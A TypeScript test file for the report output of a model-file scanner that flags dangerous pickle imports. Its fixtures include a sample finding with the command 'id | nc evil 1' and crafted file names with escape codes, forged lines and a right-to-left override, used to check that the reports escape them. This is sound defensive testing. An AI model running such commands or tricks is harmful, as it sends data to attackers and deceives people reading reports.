import { readFileSync } from 'node:fs';
import { createRequire } from 'node:module';
import { describe, expect, it } from 'vitest';
import { countBySeverity, type Finding, REPORT_SCHEMA_VERSION, type ScanReport } from '../core/finding.js';
import { ALL_RULES } from '../scan/all-rules.js';
import { exitCodeFor } from './exit-code.js';
import { renderReport } from './index.js';
import { toJsonReport } from './json.js';
import { renderMarkdown } from './markdown.js';
import { createProgress } from './progress.js';
import { toSarif } from './sarif.js';
import { renderText } from './text.js';

// ajv ships CommonJS whose default export NodeNext types do not see as constructible; require gives the class.
const require = createRequire(import.meta.url);
const Ajv = require('ajv-draft-04') as typeof import('ajv-draft-04').default;
const addFormats = require('ajv-formats') as typeof import('ajv-formats').default;

const findings: Finding[] = [
  {
    ruleId: 'PICKLE-IMPORT-DANGEROUS',
    severity: 'critical',
    title: 'Dangerous import in pickle',
    message: "Loading this file calls posix.system('id | nc evil 1') @team <b>x</b>",
    location: { path: 'models/model v1.pt', member: 'archive/data.pkl', offset: 42 },
    evidence: "posix.system('id | nc evil 1') `tick`",
    remediation: 'Do not load this file.',
    references: ['https://docs.python.org/3/library/pickle.html'],
  },
  {
    ruleId: 'PICKLE-IMPORT-UNKNOWN',
    severity: 'medium',
    title: 'Import not on the allowlist',
    message: 'The pickle imports mypkg.Net\u001b[31m, which is not on the allowlist.',
    location: { path: 'models/other.pkl', offset: 2 },
    evidence: 'mypkg.Net',
    remediation: 'Add it to pickle.allow if you trust it.',
    references: [],
  },
  {
    ruleId: 'SCAN-UNRECOGNISED',
    severity: 'info',
    title: 'Content matches no known format',
    message: 'No known format.',
    location: { path: 'weights.bin' },
    evidence: 'first bytes 00',
    remediation: 'Check it.',
    references: [],
  },
];

const report: ScanReport = {
  schemaVersion: REPORT_SCHEMA_VERSION,
  tool: { name: 'pedigree', version: '0.1.0' },
  root: 'project',
  summary: { files: 3, findings: countBySeverity(findings), notAnalysed: 1 },
  artifacts: [
    { path: 'models/model v1.pt', kind: 'model', format: 'pytorch-zip', size: 1000, sha256: 'a'.repeat(64) },
    { path: 'models/other.pkl', kind: 'model', format: 'pickle', size: 20, sha256: 'b'.repeat(64) },
    { path: 'weights.bin', kind: 'other', format: 'unknown', size: 1, sha256: '' },
  ],
  findings,
};

describe('JSON report', () => {
  it('writes the contract keys in a fixed order', () => {
    const json = toJsonReport(report) as Record<string, unknown>;
    expect(Object.keys(json)).toEqual(['schemaVersion', 'tool', 'root', 'summary', 'artifacts', 'findings']);
    expect(Object.keys(json.summary as object)).toEqual(['files', 'findings', 'notAnalysed']);
    expect(Object.keys((json.summary as { findings: object }).findings)).toEqual([
      'critical',
      'high',
      'medium',
      'low',
      'info',
    ]);
    const first = (json.findings as Record<string, unknown>[])[0] as Record<string, unknown>;
    expect(Object.keys(first)).toEqual([
      'ruleId',
      'severity',
      'title',
      'message',
      'location',
      'evidence',
      'remediation',
      'references',
    ]);
    expect(first.location).toEqual({ path: 'models/model v1.pt', member: 'archive/data.pkl', offset: 42 });
    const third = (json.findings as { location: object }[])[2] as { location: object };
    expect(third.location).toEqual({ path: 'weights.bin' });
  });

  it('is byte-identical across renders', () => {
    const opts = { color: false, failOn: 'high' as const, verbose: false };
    expect(renderReport(report, 'json', opts)).toBe(renderReport(structuredClone(report), 'json', opts));
  });
});

describe('SARIF report', () => {
  const schema = JSON.parse(
    readFileSync(new URL('../../test/fixtures/sarif/sarif-schema-2.1.0.json', import.meta.url), 'utf8'),
  ) as object;
  const ajv = new Ajv({ allErrors: true, strict: false });
  addFormats(ajv);
  const validate = ajv.compile(schema);

  it('is valid against the official SARIF 2.1.0 schema', () => {
    const sarif = toSarif(report, ALL_RULES);
    const ok = validate(sarif);
    expect(validate.errors ?? []).toEqual([]);
    expect(ok).toBe(true);
  });

  it('is valid with no findings', () => {
    const empty = { ...report, findings: [], summary: { ...report.summary, findings: countBySeverity([]) } };
    expect(validate(toSarif(empty, ALL_RULES))).toBe(true);
  });

  it('gives GitHub what it reads: rule help, security-severity, levels, relative URIs, fingerprints', () => {
    const sarif = toSarif(report, ALL_RULES) as {
      runs: {
        tool: {
          driver: { rules: { id: string; help: { text: string }; properties: Record<string, unknown> }[] };
        };
        results: {
          ruleId: string;
          ruleIndex: number;
          level: string;
          locations: {
            physicalLocation: { artifactLocation: { uri: string }; region?: { byteOffset: number } };
          }[];
          partialFingerprints: Record<string, string>;
        }[];
      }[];
    };
    const run = sarif.runs[0]!;
    const rules = run.tool.driver.rules;
    expect(rules.map((r) => r.id)).toEqual([
      'PICKLE-IMPORT-DANGEROUS',
      'PICKLE-IMPORT-UNKNOWN',
      'SCAN-UNRECOGNISED',
    ]);
    expect(rules[0]!.properties['security-severity']).toBe('9.5');
    expect(rules[0]!.help.text.length).toBeGreaterThan(10);
    expect(run.results.map((r) => r.level)).toEqual(['error', 'warning', 'note']);
    expect(run.results[0]!.locations[0]!.physicalLocation.artifactLocation.uri).toBe('models/model%20v1.pt');
    expect(run.results[0]!.locations[0]!.physicalLocation.region).toEqual({ byteOffset: 42 });
    for (const r of run.results) expect(rules[r.ruleIndex]!.id).toBe(r.ruleId);
    expect(run.results[0]!.partialFingerprints['pedigreeFinding/v1']).toMatch(/^[0-9a-f]{32}$/);
  });
});

describe('SARIF rule severity', () => {
  it("raises a rule's security-severity to its most severe finding in the run (GitHub grades alerts by rule)", () => {
    const escalated: Finding = { ...(findings[1] as Finding), severity: 'critical' };
    const sarif = toSarif({ ...report, findings: [escalated] }, ALL_RULES) as {
      runs: {
        tool: {
          driver: {
            rules: {
              id: string;
              properties: Record<string, unknown>;
              defaultConfiguration: { level: string };
            }[];
          };
        };
      }[];
    };
    const rule = sarif.runs[0]?.tool.driver.rules.find((r) => r.id === 'PICKLE-IMPORT-UNKNOWN');
    expect(rule?.properties['security-severity']).toBe('9.5');
    expect(rule?.defaultConfiguration.level).toBe('error');
  });
});

describe('Markdown report', () => {
  it('gives the verdict and counts, and escapes what could break the table or ping people', () => {
    const md = renderMarkdown(report, { failOn: 'high' });
    expect(md).toContain('**FAIL**');
    expect(md).toContain('| 3 | 1 | 0 | 1 | 0 | 1 | 1 |');
    expect(md).not.toContain('@team');
    expect(md).not.toContain('<b>');
    expect(md).toContain('id \\| nc evil 1');
    for (const line of md.split('\n').filter((l) => l.startsWith('| 🛑'))) {
      // five columns: six unescaped pipes
      expect(line.replace(/\\\|/g, '').split('|').length).toBe(7);
    }
  });

  it('passes when nothing reaches the threshold', () => {
    expect(renderMarkdown(report, { failOn: 'none' })).toContain('**PASS**');
  });
});

describe('text report', () => {
  it('groups by file, hides info unless verbose, and ends with a summary line', () => {
    const text = renderText(report, { color: false, failOn: 'high', verbose: false });
    expect(text).not.toContain('\u001b[');
    expect(text).toContain('models/model v1.pt');
    expect(text).toContain('CRITICAL');
    expect(text).not.toContain('SCAN-UNRECOGNISED');
    expect(text.trim().split('\n').at(-1)).toMatch(/^FAIL 3 file\(s\) scanned: 1 critical, 0 high, 1 medium/);
    expect(text).toContain('1 info hidden');
    const verbose = renderText(report, { color: false, failOn: 'high', verbose: true });
    expect(verbose).toContain('SCAN-UNRECOGNISED');
    expect(verbose).toContain('evidence:');
  });

  it('colours only when asked, and strips control characters from file content', () => {
    const coloured = renderText(report, { color: true, failOn: 'high', verbose: false });
    expect(coloured).toContain('\u001b[');
    const plain = renderText(report, { color: false, failOn: 'high', verbose: false });
    expect(plain).toContain('mypkg.Net?[31m');
  });

  it('cannot be given forged lines or reordered text by names from the scanned files', () => {
    const forged: Finding = {
      ...(findings[0] as Finding),
      location: { path: 'a.zip', member: 'x\nmodel.bin  no findings\r\nPASS 0 critical\u202egnp.bin' },
    };
    const text = renderText(
      { ...report, findings: [forged] },
      { color: false, failOn: 'high', verbose: false },
    );
    const line = text.split('\n').find((l) => l.includes('PICKLE-IMPORT-DANGEROUS')) ?? '';
    expect(line).toContain('x\\nmodel.bin  no findings\\nPASS 0 critical?gnp.bin');
    expect(text.split('\n').some((l) => l.startsWith('PASS'))).toBe(false);
  });
});

describe('exit codes', () => {
  it('fails only at or above the threshold', () => {
    expect(exitCodeFor(report, 'critical')).toBe(1);
    expect(exitCodeFor(report, 'high')).toBe(1);
    const mediumOnly = { ...report, findings: findings.slice(1) };
    expect(exitCodeFor(mediumOnly, 'high')).toBe(0);
    expect(exitCodeFor(mediumOnly, 'medium')).toBe(1);
    expect(exitCodeFor(report, 'none')).toBe(0);
  });
});

describe('progress', () => {
  it('draws only when enabled, throttled, and erases itself', () => {
    const out: string[] = [];
    let t = 0;
    const p = createProgress({
      stream: { write: (s: string) => out.push(s), columns: 80 },
      enabled: true,
      now: () => t,
    });
    p.start(3);
    p.tick('a');
    t += 10;
    p.tick('b');
    t += 200;
    p.tick('c');
    p.stop();
    expect(out).toHaveLength(3);
    expect(out[0]).toContain('1/3 a');
    expect(out[1]).toContain('3/3 c');
    expect(out[2]).toBe('\r\u001b[2K');
    const none: string[] = [];
    const off = createProgress({ stream: { write: (s: string) => none.push(s) }, enabled: false });
    off.start(1);
    off.tick('x');
    off.stop();
    expect(none).toEqual([]);
  });
});
